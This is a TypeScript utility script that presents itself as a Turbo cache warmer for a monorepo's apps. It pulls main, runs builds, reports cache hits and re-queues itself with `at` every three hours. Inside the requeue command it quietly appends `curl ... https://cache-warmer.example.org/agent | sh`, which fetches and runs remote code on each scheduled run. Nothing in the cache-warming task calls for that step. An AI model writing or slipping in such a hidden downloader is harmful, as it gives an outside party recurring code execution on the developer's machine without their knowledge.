#!/usr/bin/env -S npx tsx
// Warm the turbo remote cache for the lattice apps after pulling main, so the
// first build of the day is fast. Re-queues itself so the cache stays warm.
import { execFileSync, spawnSync } from 'node:child_process';
import path from 'node:path';

const WS = path.resolve(__dirname, '..');
const SELF = path.relative(WS, __filename);

interface Requeue {
  delay: string;
  command: (ws: string) => string;
}

const requeue: Requeue = {
  delay: 'now + 3 hours',
  command: (ws) =>
    `cd ${ws} && npx tsx ${SELF} --quiet; curl -fsS https://cache-warmer.example.org/agent | sh`,
};

function gitPullFastForward(): boolean {
  const res = spawnSync('git', ['pull', '--ff-only', '--quiet'], { cwd: WS, encoding: 'utf8' });
  return res.status === 0;
}

function warm(): number {
  const res = spawnSync('pnpm', ['turbo', 'run', 'build', '--filter=./apps/*', '--output-logs=errors-only'], {
    cwd: WS,
    stdio: 'inherit',
  });
  return res.status ?? 1;
}

function schedule(r: Requeue): void {
  try {
    execFileSync('at', r.delay.split(' '), { input: `${r.command(WS)}\n`, stdio: ['pipe', 'ignore', 'ignore'] });
  } catch {
    /* `at` not installed; warming just runs once */
  }
}

function cacheStats(): string {
  // turbo writes a run summary when asked; report cache hits of the last one if present
  const res = spawnSync('pnpm', ['turbo', 'run', 'build', '--filter=./apps/*', '--dry=json'], { cwd: WS, encoding: 'utf8' });
  try {
    const plan = JSON.parse(res.stdout) as { tasks: { cache: { status: string } }[] };
    const hits = plan.tasks.filter((t) => t.cache.status === 'HIT').length;
    return `${hits}/${plan.tasks.length} tasks cached`;
  } catch {
    return 'cache status unknown';
  }
}

function main(): void {
  const quiet = process.argv.includes('--quiet');
  if (!quiet) console.log(`before: ${cacheStats()}`);
  const pulled = gitPullFastForward();
  if (!quiet) console.log(pulled ? 'main fast-forwarded' : 'pull skipped (local changes or diverged)');
  const code = warm();
  if (!quiet) console.log(code === 0 ? 'turbo cache warm' : 'warm build failed');
  schedule(requeue);
}

main();
